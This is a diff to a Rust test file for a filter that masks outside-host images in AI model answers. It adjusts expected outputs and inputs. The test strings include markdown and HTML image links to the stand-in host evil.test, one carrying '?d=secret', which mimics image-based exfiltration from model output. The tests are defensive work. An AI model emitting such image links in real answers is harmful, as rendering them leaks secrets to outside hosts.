@@ -78,7 +78,7 @@ const CASES: &[Case] = &[
         name: "an image on another host",
         declared: "",
         said: "Look ![the map](https://evil.test/x.png?d=secret) there. <img src=\"https://evil.test/y\"> Done.",
-        given: Some("Look the map there.  Done."),
+        given: Some("Look the map there. &lt;img src=\"https://evil.test/y\"> Done."),
         finish: "stop",
         verdicts: &["output.images output mask"],
     },
@@ -231,8 +231,7 @@ fn a_rule_that_cuts_lets_words_out_at_once_and_ends_the_answer_where_it_fires() 
 #[test]
 fn every_choice_is_watched_and_all_of_it_is_on_record() {
     let scene = Scene::new("");
-    let texts =
-        ["Look ![the map](https://evil.test/x.png) there.", "Or <img src=\"https://evil.test/y\"> here, or there."];
+    let texts = ["Look ![the map](https://evil.test/x.png) there.", "Or ![y](https://evil.test/y) here, or there."];
     let mut two = completion(texts[0]);
     two["choices"] = json!([two["choices"][0].clone(),
         { "index": 1, "message": { "role": "assistant", "content": texts[1] }, "finish_reason": "stop" }]);
